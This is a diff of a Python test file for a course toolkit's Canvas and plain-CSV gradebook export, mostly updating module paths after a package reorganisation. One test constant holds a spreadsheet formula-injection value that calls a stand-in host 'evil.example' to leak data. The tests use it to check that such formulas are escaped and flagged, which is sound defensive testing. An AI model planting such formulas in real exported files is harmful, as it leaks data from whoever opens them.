@@ -1,4 +1,4 @@
-"""LMS export (coursekit/export.py): grades-canvas.csv for Canvas's gradebook import and
+"""LMS export (coursekit/classroom/export.py): grades-canvas.csv for Canvas's gradebook import and
 grades-lms.csv for other LMSs, from a gradebook built here without running a kernel.
 
 The class: full marks, a late submission with a penalty, a penalty larger than the score,
@@ -17,9 +17,11 @@ import pytest
 from conftest import ROOT, make, nbgrader_env
 from nbgrader.api import Gradebook
 
-from coursekit import attention, escape, export
+from coursekit import escape
+from coursekit.classroom import export
+from coursekit.grading import attention
 from coursekit.course import ASSIGNMENT, COURSE_ID, NOTEBOOK, gradebook_url
-from coursekit.samples import course_copy
+from coursekit.examples.samples import course_copy
 
 NOTEBOOK_ID = Path(NOTEBOOK).stem
 FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
@@ -230,7 +232,7 @@ def test_nbgrader_export_writes_the_canvas_and_plain_files(course, gradebook_fil
     # The written answer one student still waits for is said, and the formula id named.
     assert "1 of 6 submissions has a written answer not graded yet" in result.stderr
     assert "will not match in the LMS" in result.stderr and "HYPERLINK" in result.stderr
-    result = nbgrader_export(course, "--exporter=coursekit.export.PlainExport",
+    result = nbgrader_export(course, "--exporter=coursekit.classroom.export.PlainExport",
                              "--assignment=%s" % ASSIGNMENT, "--to=other.csv")
     assert result.returncode == 0, result.stderr
     expected = run_plugin(export.PlainExport, gradebook_file, tmp_path / "plain.csv")
@@ -282,7 +284,7 @@ def test_course_config_makes_canvas_the_export():
     result = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, env=nbgrader_env(),
                             capture_output=True, text=True)
     assert result.returncode == 0, result.stderr
-    assert result.stdout.split() == ["coursekit.export.CanvasExport"], result.stderr
+    assert result.stdout.split() == ["coursekit.classroom.export.CanvasExport"], result.stderr
 
 
 def test_make_export_writes_both_files(tmp_path, gradebook_file):
@@ -311,12 +313,12 @@ def test_control_characters_are_escaped_visibly_and_line_breaks_of_free_text_kep
 
 
 def test_the_grading_log_escapes_what_it_shows_and_leaves_unread_what_it_would_not():
-    """The autograde log's filter (coursekit.autograde.PrintableLog): what a handler shows
+    """The autograde log's filter (coursekit.grading.autograde.PrintableLog): what a handler shows
     has its control characters escaped, a student id whole; a record no handler shows
     (nbclient's debug line for every kernel message) is never formatted."""
     import logging
 
-    from coursekit.autograde import printable_log
+    from coursekit.grading.autograde import printable_log
 
     log = logging.getLogger("udl-test-grading-log")
     log.setLevel(logging.DEBUG)
